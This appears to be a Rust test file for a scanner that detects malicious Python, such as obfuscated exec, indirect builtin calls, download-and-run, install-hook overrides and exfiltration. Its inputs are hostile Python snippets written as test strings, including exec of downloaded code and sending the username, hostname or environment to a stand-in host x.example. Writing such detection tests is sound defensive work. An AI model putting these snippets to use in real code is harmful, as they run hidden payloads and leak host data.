use super::*;

fn kinds(source: &str, all: bool) -> Vec<(SignalKind, Reach)> {
    let mut kinds: Vec<(SignalKind, Reach)> = analyse(source, all)
        .signals
        .into_iter()
        .map(|s| (s.kind, s.reach))
        .collect();
    kinds.sort_by_key(|(k, _)| *k);
    kinds.dedup();
    kinds
}

fn has(source: &str, kind: SignalKind) -> bool {
    kinds(source, true).iter().any(|(k, _)| *k == kind)
}

#[test]
fn exec_of_decoded_data_through_aliases_and_lambdas() {
    assert!(has(
        "import base64 as b\nexec(b.b64decode('aW1wb3J0IG9z'))",
        SignalKind::ExecDecoded
    ));
    assert!(has(
        "from zlib import decompress as d\n_ = lambda x: d(x[::-1])\nexec((_)(b'...'))",
        SignalKind::ExecDecoded
    ));
    assert!(has(
        "import marshal\nc = marshal.loads(blob)\nexec(c)",
        SignalKind::ExecDecoded
    ));
    assert!(has(
        "def f():\n    return __import__('base64').b64decode(X)\nexec(f())",
        SignalKind::ExecDecoded
    ));
}

#[test]
fn indirect_calls_resolve() {
    assert!(has(
        "getattr(__builtins__, 'ex' + 'ec')(payload)",
        SignalKind::IndirectCall
    ));
    assert!(has(
        "vars(__builtins__)['ex'+'ec'](payload)",
        SignalKind::IndirectCall
    ));
    assert!(has(
        "globals()['__builtins__']\n__import__('o'+'s').system('id')",
        SignalKind::IndirectCall
    ));
    assert!(has(
        "_add, While = exec, str\n_add(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))",
        SignalKind::ExecBuilt
    ));
    assert!(has(
        "s = getattr(__import__('os'), 'sys'+'tem')\ns('id')",
        SignalKind::IndirectCall
    ));
}

#[test]
fn downloads_run() {
    assert!(has(
        "import requests\nexec(requests.get('http://x.example/p').text)",
        SignalKind::ExecDownloaded
    ));
    assert!(has(
        "from urllib.request import urlopen\nwith urlopen(u) as r:\n    code = r.read()\nexec(code)",
        SignalKind::ExecDownloaded
    ));
    assert!(has(
        "import urllib.request, os\np = urllib.request.urlretrieve(u, 'a.exe')\nos.startfile(p)",
        SignalKind::DownloadRun
    ));
}

#[test]
fn host_identity_sent_is_exfiltration() {
    assert!(has(
        "import requests, getpass\nrequests.get('https://x.example/?u=' + getpass.getuser())",
        SignalKind::ExfilFlow
    ));
    assert!(has(
        "import socket, subprocess\nh = socket.gethostname()\nsubprocess.Popen(['dig', h + '.x.example'])",
        SignalKind::ExfilFlow
    ));
    assert!(has(
        "import os, requests\nrequests.post(U, data=str(os.environ))",
        SignalKind::ExfilFlow
    ));
}

#[test]
fn module_level_reach() {
    let source = "import os\ndef used():\n    os.system('curl x')\ndef unused():\n    os.popen('whoami')\nused()\n";
    let found = kinds(source, false);
    assert!(
        found.contains(&(SignalKind::ProcessExec, Reach::Always)),
        "{found:?}"
    );
    assert!(
        found.contains(&(SignalKind::ProcessExec, Reach::OnCall)),
        "{found:?}"
    );
}

#[test]
fn benign_build_idioms_stay_quiet() {
    let setup = "import subprocess, os\nexec(open('pkg/version.py').read())\n\
                 subprocess.check_call(['cmake', '..'])\nsubprocess.call(['pkg-config', '--libs', 'x'])\n\
                 v = os.environ.get('CC')\n";
    assert_eq!(kinds(setup, true), []);
}

#[test]
fn cmdclass_override_is_seen() {
    assert!(has(
        "from setuptools import setup\nsetup(name='x', cmdclass={'install': Post})",
        SignalKind::InstallOverride
    ));
}
